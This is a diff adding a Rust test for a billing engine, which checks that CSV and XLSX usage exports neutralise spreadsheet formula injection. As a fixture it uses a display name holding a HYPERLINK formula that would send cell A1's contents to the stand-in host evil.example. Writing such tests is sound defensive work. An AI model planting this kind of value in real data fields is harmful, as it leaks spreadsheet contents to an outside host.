@@ -116,3 +116,62 @@ fn an_import_refuses_overlong_fields_and_control_characters_per_row() {
         assert!(p.message.len() < 400, "the message does not echo the field: {} bytes", p.message.len());
     }
 }
+
+/// A display name a spreadsheet would run as a formula comes out of the CSV export as
+/// text (a leading quote), numbers stay as they are; the workbook holds it as a string.
+#[test]
+fn exports_never_hand_a_spreadsheet_a_formula() {
+    use calamine::{open_workbook, Data, Reader, Xlsx};
+    use commcredits_engine::usage::UsageFilter;
+    let e = engine();
+    let now = t("2026-11-02T09:00:00Z");
+    let o = setup(&e, now);
+    e.purchase(&o.id, "50.00", &o.card, None, None, now).unwrap();
+    let name = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
+    let eve = created(one(
+        &e,
+        now,
+        Command::CreateUser {
+            org: o.id.clone(),
+            upn: "eve@contoso.com".into(),
+            display_name: name.into(),
+            usage_location: "GB".into(),
+            phone_number: None,
+        },
+    ));
+    for sku in ["phone_system", "communications_credits"] {
+        one(&e, now, Command::AssignLicense { org: o.id.clone(), sku: sku.into(), users: vec![eve.clone()] });
+    }
+    let csv = format!(
+        "call_id,type,user,from,to,start_time,duration_seconds\n\
+         -1+1,outbound,{eve},+442079460000,+14155550100,2026-11-01T10:00:00Z,60\n"
+    );
+    let report = e.import_cdrs(&o.id, csv.as_bytes(), now, &mut |_| {}).unwrap();
+    assert_eq!(report.charged, 1, "{report:?}");
+    let filter = UsageFilter {
+        from: Some(t("2026-11-01T00:00:00Z")),
+        to: Some(t("2026-12-01T00:00:00Z")),
+        ..UsageFilter::default()
+    };
+    let mut out = Vec::new();
+    e.write_usage_csv(&o.id, &filter, &mut out).unwrap();
+    let text = String::from_utf8(out).unwrap();
+    let mut rdr = csv::Reader::from_reader(text.as_bytes());
+    let header = rdr.headers().unwrap().clone();
+    let row = rdr.records().next().unwrap().unwrap();
+    let cell = |h: &str| row[header.iter().position(|x| x == h).unwrap_or_else(|| panic!("{h}"))].to_string();
+    assert_eq!(cell("User Display Name"), format!("'{name}"), "{text}");
+    assert_eq!(cell("Call ID"), "'-1+1");
+    assert_eq!(cell("Caller ID"), "+442079460000", "an E.164 number is a plain number: {text}");
+    assert!(!cell("Charge").starts_with('\''), "{text}");
+    // The workbook: a string cell, and no formula anywhere.
+    let dir = tempfile::tempdir().unwrap();
+    let path = dir.path().join("usage.xlsx");
+    e.write_usage_xlsx(&o.id, &filter, &path).unwrap();
+    let mut wb: Xlsx<_> = open_workbook(&path).unwrap();
+    let range = wb.worksheet_range("PSTN usage").unwrap();
+    let names: Vec<&Data> = range.rows().skip(1).map(|r| &r[6]).collect();
+    assert_eq!(names, vec![&Data::String(name.into())]);
+    let formulas = wb.worksheet_formula("PSTN usage").unwrap();
+    assert!(formulas.used_cells().all(|(_, _, f)| f.is_empty()), "no cell is a formula");
+}
